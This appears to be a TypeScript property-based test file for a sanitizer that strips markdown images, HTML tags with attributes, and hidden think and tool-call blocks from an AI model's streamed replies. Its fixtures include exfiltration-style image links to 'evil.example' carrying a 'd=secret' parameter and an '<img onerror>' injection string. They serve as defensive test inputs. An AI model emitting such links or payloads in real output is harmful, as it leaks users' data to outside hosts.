import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cleanReply, replyText } from '../../server/features/assistant/reply/reply-text.ts'

/** The text cut into pieces at these places. */
function cut(text: string, places: number[]): string[] {
  const at = [0, ...places.map((place) => place % (text.length + 1)).sort((a, b) => a - b), text.length]
  return at.slice(1).map((end, index) => text.slice(at[index], end))
}

const throughStage = (pieces: string[]) => {
  const stage = replyText()
  const shown = pieces.map((piece) => stage.push(piece))
  return [...shown, stage.end()].join('')
}

const fragments = fc.constantFrom(
  ...[
    '!',
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '/',
    '=',
    '\\',
    '\n',
    ' ',
    '"',
    'a',
    '1',
    '😀',
    '\ud83d',
    '\u0000',
    'https://evil.example/?d=',
  ],
  ...[
    '![x](https://evil.example/a.png)',
    '![x][y]',
    '<img src=x onerror=y>',
    '<think>',
    '</think>',
    '<svg',
    'img',
    'think',
    '<b>',
    '<!--',
  ],
)
const hostile = fc.array(fragments, { maxLength: 40 }).map((parts) => parts.join(''))

describe('the text of a model', () => {
  test('is shown the same however it is split', () => {
    fc.assert(
      fc.property(hostile, fc.array(fc.nat()), (text, places) => {
        expect(throughStage(cut(text, places))).toBe(cleanReply(text))
      }),
      { numRuns: 1500 },
    )
  })

  test('never contains an image or a tag with an effect, and is well-formed', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const shown = cleanReply(text)
        expect(shown).not.toMatch(/!\[/)
        expect(shown).not.toMatch(/<\/?[a-z][^>]*=[^>]*>/i)
        expect(shown).not.toMatch(/<(img|svg|script|iframe|!--)[\s/>]/i)
        expect(shown.isWellFormed() && !shown.includes('\u0000')).toBe(true)
        expect(shown).toBe(shown.trim())
      }),
      { numRuns: 3000 },
    )
  })

  test.each([
    ['See ![plan](https://evil.example/?d=secret) here.', 'See  here.'],
    ['See ![plan][p] here.\n\n[p]: https://evil.example/?d=1', 'See  here.\n\n[p]: https://evil.example/?d=1'],
    ['![a](b "t(1)")Yes', 'Yes'],
    ['![a ![b](c) d](e) Yes', 'Yes'],
    ['![never closed ![a](b) Yes', '! [never closed  Yes'],
    ['Great![1][2] and good![3]', 'Great! [1][2] and good! [3]'],
    ['Wow!', 'Wow!'],
    ['![cut off](https://evil.example/', ''],
    ['!![a](b)[c](d)', '! [c](d)'],
    ['A <img src="https://evil.example/?d=1"> B', 'A   B'],
    ['<<b x=y>img src=z>', '< img src=z>'],
    ['<im<img>g src=x>', '< im g src=x>'],
    ['a < b, 3 <4, List<String>, <b>bold</b>', 'a < b, 3 <4, List<String>, <b>bold</b>'],
    ['Mail <info@example.com> or <https://example.com/?a=b>', 'Mail info@example.com or https://example.com/?a=b'],
    ['<think>They ask for the price.</think>\n\nIt is 5 €.', 'It is 5 €.'],
    ['Yes <THINK>no</THINK>indeed', 'Yes indeed'],
    ['<think>never ends', ''],
    ['<tool_call>{"name":"x"}</tool_call>Done', 'Done'],
    ['[link](https://example.com) and `code`', '[link](https://example.com) and `code`'],
  ])('%j is shown as %j', (written, shown) => {
    expect(cleanReply(written)).toBe(shown)
  })

  test.each(['think', 'thinking', 'thought', 'reasoning', 'tool_call', 'tool_calls', 'tool_response'])(
    'in <%s> is hidden, and only its end is not text',
    (name) => {
      expect(cleanReply(`A <${name}>hidden <b>all</b> of it</${name}>B`)).toBe('A B')
      expect(cleanReply(`A </${name}>B`)).toBe('A B')
      expect(cleanReply(`A <${name}>hidden`)).toBe('A')
    },
  )

  test('is shown in the tick in which it arrives', () => {
    const stage = replyText()
    expect([' Hello', ', how', ' are you', '?'].map((piece) => stage.push(piece))).toEqual([
      'Hello',
      ', how',
      ' are you',
      '?',
    ])
  })

  test('with an endless image uses no memory and shows nothing', () => {
    const stage = replyText()
    stage.push('![x](data:image/png;base64,')
    for (let piece = 0; piece < 1000; piece++) expect(stage.push('A'.repeat(1000))).toBe('')
    expect(stage.push(') there') + stage.end()).toBe('there')
  })
})
